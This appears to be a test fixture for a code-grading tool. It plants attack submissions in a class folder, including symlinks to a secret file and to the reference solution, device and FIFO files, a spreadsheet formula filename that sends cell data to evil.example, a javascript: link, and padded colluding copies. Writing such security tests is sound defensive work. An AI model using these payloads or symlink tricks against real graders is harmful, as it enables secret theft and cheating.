"""Plant issue 31's attacks on kata's own process into a class folder (see README.md beside this file)."""

from __future__ import annotations

import os
import socket
import stat
from pathlib import Path

FORMULA = '=HYPERLINK("https:evil.example?"&A2,"open me")'
MARKDOWN = "[open me](javascript:alert(1)).py"
LONG = "a" * 252 + ".py"


def plant(folder: Path, out: Path, reference: Path, broken: str, outside: Path) -> dict[str, str]:
    """Plant every attack in ``folder`` (graded into ``out``, its sibling); ``outside``: a folder beside them that
    holds a correct loop. Returns submission name -> the kind of refusal expected (``graded``: graded as itself)."""
    planted: dict[str, str] = {}
    (out / ".secret").parent.mkdir(parents=True, exist_ok=True)
    (folder / "link_secret.py").symlink_to(os.path.relpath(out / ".secret", folder))
    planted["link_secret.py"] = "not_given"
    (folder / "link_reference.py").symlink_to(reference)
    planted["link_reference.py"] = "not_given"
    (outside / "loop.py").write_text(reference.read_text())
    (folder / "outside").symlink_to(outside, target_is_directory=True)
    planted["outside"] = "submission_folder"
    (folder / "loop_a.py").symlink_to("loop_b.py")
    (folder / "loop_b.py").symlink_to("loop_a.py")
    planted["loop_a.py"] = planted["loop_b.py"] = "not_given"
    os.mkfifo(folder / "fifo.py")
    planted["fifo.py"] = "not_file"
    try:
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(folder / "socket.py"))
        sock.close()
        planted["socket.py"] = "not_file"
    except OSError:  # a path too long for a socket's address: nothing planted
        pass
    try:
        os.mknod(folder / "device.py", 0o600 | stat.S_IFCHR, os.makedev(1, 5))
        planted["device.py"] = "not_file"
    except OSError:  # no right to make a device here
        pass
    (folder / LONG).write_text(broken)
    planted[LONG] = "graded"
    (folder / FORMULA).mkdir()
    (folder / FORMULA / "loop.py").write_text(broken)
    planted[FORMULA] = "graded"
    (folder / MARKDOWN).write_text("def make_data(seed=0:\n    pass\n")
    planted[MARKDOWN] = "syntax"
    padding = "\n".join(f"def helper_{i}(x):\n    y = x * {i} + {i % 7}\n    return y - {i}" for i in range(4000))
    (folder / "colluder_a.py").write_text(broken + "\n\n" + padding + "\n")
    restyled = padding.replace("    ", "  ")  # another indentation, a comment: the same token stream
    (folder / "colluder_b.py").write_text("# all my own work\n" + broken + "\n\n" + restyled + "\n")
    planted["colluder_a.py"] = planted["colluder_b.py"] = "graded"
    return planted
